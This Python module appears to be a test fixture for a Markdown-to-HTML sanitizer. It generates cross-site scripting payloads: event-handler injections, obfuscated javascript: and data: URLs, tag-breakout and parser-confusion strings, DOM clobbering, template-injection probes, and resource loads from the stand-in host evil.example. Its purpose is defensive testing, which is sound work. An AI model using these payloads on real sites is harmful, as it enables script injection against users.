"""Attacks on the one seam through which authors' text becomes HTML, by the families of past faults.

Each calls `alert(1)` if it runs, or asks the host `evil.example`. `HTML` is what an attacker would like to see
on the page; `MARKDOWN` is what an author can really write, with each of the HTML texts in many places.
"""

from collections.abc import Iterator
from itertools import product

RUN = "alert(1)"
EVIL = "//evil.example/x"

EVENTS = (
    *(
        "click",
        "load",
        "error",
        "focus",
        "blur",
        "mouseover",
        "mouseenter",
    ),
    *(
        "mouseout",
        "mousemove",
        "mousedown",
        "mouseup",
        "pointerenter",
        "pointerover",
        "pointerdown",
    ),
    *(
        "pointermove",
        "touchstart",
        "wheel",
        "scroll",
        "keydown",
        "keyup",
        "keypress",
    ),
    *(
        "input",
        "change",
        "submit",
        "reset",
        "select",
        "invalid",
        "toggle",
    ),
    *(
        "beforetoggle",
        "animationstart",
        "animationend",
        "animationiteration",
        "transitionend",
        "transitionrun",
        "begin",
    ),
    *(
        "end",
        "repeat",
        "copy",
        "cut",
        "paste",
        "drag",
        "dragstart",
    ),
    *(
        "drop",
        "contextmenu",
        "auxclick",
        "dblclick",
        "resize",
        "hashchange",
        "popstate",
    ),
    *(
        "pageshow",
        "message",
        "canplay",
        "loadstart",
        "loadeddata",
        "loadedmetadata",
        "play",
    ),
    *(
        "playing",
        "seeked",
        "timeupdate",
        "volumechange",
        "waiting",
        "suspend",
        "fullscreenchange",
    ),
    *(
        "securitypolicyviolation",
        "slotchange",
        "formdata",
        "cuechange",
        "beforeinput",
        "search",
    ),
)
CARRIERS = (
    '<img src=x on{event}="{run}">',
    "<p tabindex=0 On{event}={run}>x</p>",
    "<details open on{event}={run}><summary>x</summary>y</details>",
)
SPELLINGS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\tjavascript:{run}",
    "\njavascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java\rscript:{run}",
    "java&Tab;script:{run}",
    "java&NewLine;script:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}",
    "&#1;javascript:{run}",
    "\x01javascript:{run}",
    "\x1fjavascript:{run}",
    "\ufeffjavascript:{run}",
    "java\u200bscript:{run}",
    "java\u00adscript:{run}",
    "java\u2060script:{run}",
    "java\u3164script:{run}",
    "javascript:/*--></title></style></textarea></script>*/{run}",
    "javascript://%0a{run}",
    "javascript://comment%0d%0a{run}",
    "javascript:%61lert(1)",
    "javascript:void({run})",
    "javascript:window.name;{run}",
    "javascript:'<script>{run}</script>'",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<svg/onload={run}>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "vbscript:msgbox(1)",
    "livescript:{run}",
    "feed:javascript:{run}",
    "view-source:javascript:{run}",
    "jar:javascript:{run}",
    "blob:https://x/{run}",
    "filesystem:https://x/{run}",
)
LINKED = (
    '<a href="{url}">x</a>',
    "<area href='{url}'>",
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>x</button></form>',
    '<button formaction="{url}">x</button>',
    '<svg><a xlink:href="{url}"><text y=20>x</text></a></svg>',
)
ASKING = {
    "img": ("src", "srcset", "longdesc", "lowsrc", "dynsrc"),
    "video": ("src", "poster"),
    "audio": ("src",),
    "source": ("src", "srcset"),
    "track": ("src",),
    "input": ("src",),
    "table": ("background",),
    "td": ("background",),
    "body": ("background",),
    "link": ("href",),
    "iframe": ("src", "srcdoc"),
    "embed": ("src",),
    "object": ("data", "codebase", "archive"),
    "script": ("src",),
    "frame": ("src",),
    "bgsound": ("src",),
    "use": ("href", "xlink:href"),
    "image": ("href", "xlink:href"),
    "a": ("ping",),
    "blockquote": ("cite",),
    "html": ("manifest",),
    "base": ("href",),
    "portal": ("src",),
}
RAW_TAGS = (
    *("style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "plaintext"),
    *("template", "select", "script", "listing", "option", "svg", "math"),
)
BREAKERS = (
    "<{raw}><img title='</{raw}><img src=x onerror={run}>'>",
    "<math><{raw}><img src=x onerror={run}></{raw}></math>",
    "<svg><{raw}><img title='</{raw}><img src=x onerror={run}>'></svg>",
    "<{raw}><!--</{raw}><img src=x onerror={run}>-->",
    "<form><math><mtext></form><form><mglyph><{raw}></math><img src=x onerror={run}>",
)
STRUCTURE = (
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY a '<script>alert(1)</script>'>]>&a;",
    "</p></article></main></body><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<script>al\\u0065rt(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/x'>",
    "<base href=//evil.example/><img src=x>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<link rel=prefetch href=//evil.example/x>",
    "<link rel=preload as=image href=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9;background:url(//evil.example/x)'>x</div>",
    '<p style="animation:x" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x contenteditable autofocus onfocus=alert(1)>x</x>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x ONERROR=&#97;lert(1)>",
    "<img src=x onerror=alert&#40;1&#41;>",
    "<a href=# onclick=alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<custom-element onfocus=alert(1) tabindex=0 autofocus>x</custom-element>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    "<img name=getElementById id=body src=x>",
    "<form name=cookie><input name=attributes></form>",
    "<a id=top><a id=top name=location href=//evil.example/>x</a>",
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&lt&#115;cript&gt;alert(1)&lt/script&gt;",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in (1,2) %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
)

PLACES = (
    "{text}",
    "Words {text} words.",
    "- {text}",
    "> {text}",
    "> [!TIP]\n> {text}",
    "| a | b |\n|---|---|\n| {text} | x |",
    "## {text}",
    "**{text}** and *{text}* and ~~{text}~~",
    "[{text}](https://example.com/)",
    '[x](https://example.com/ "{text}")',
    '![{text}](post.png "{text}")',
    "Noted.[^1]\n\n[^1]: {text}",
    "::: scenario {text}\n{text}\n:::",
    "::: posts\n**Bad:** {text}\n\n**Better:** {text}\n:::",
    "::: reflection\n{text}\n:::",
    "Term\n: {text}",
    "*[FTC]: {text}\n\nThe FTC says so.",
    "```{text}\n{text}\n```",
    "`{text}`",
    "    {text}",
    "## Which? {{#which}}\n- [x] {text}\n  {text}\n- [ ] No\n  {text}",
    "## Match {{#pairs kind=match}}\n\n| a | b | why |\n|---|---|---|\n| {text} | {text} | {text} |\n| y | z | w |",
)
MARKDOWN_LINKS = (
    "[x]({url})",
    "[x](<{url}>)",
    "![x]({url})",
    "<{url}>",
    "[x]: {url}\n\n[x] and [y][x]",
    "[x]({url} 'title')",
    "{url}",
    "::: embed\n[x]({url})\n:::",
    "::: download\n[x]({url})\n:::",
)


def html() -> Iterator[str]:
    """Every attack as HTML."""
    yield from (carrier.format(event=event, run=RUN) for carrier, event in product(CARRIERS, EVENTS))
    urls = [spelling.format(run=RUN) for spelling in SPELLINGS]
    yield from (linked.format(url=url) for linked, url in product(LINKED, urls))
    yield from (
        f"<{tag} {name}='{EVIL}' rel=stylesheet>x</{tag}>" for tag, names in ASKING.items() for name in names
    )
    yield from (breaker.format(raw=raw, run=RUN) for breaker, raw in product(BREAKERS, RAW_TAGS))
    yield from STRUCTURE
    yield from ENTITIES
    yield from TEMPLATES


def markdown() -> Iterator[str]:
    """Every way an author could try them."""
    chosen = (*STRUCTURE, *ENTITIES, *TEMPLATES)
    yield from (place.format(text=text.replace("\n", " ")) for place, text in product(PLACES, chosen))
    urls = [spelling.format(run=RUN) for spelling in SPELLINGS]
    yield from (link.format(url=url) for link, url in product(MARKDOWN_LINKS, [*urls, EVIL, f"https:{EVIL}"]))
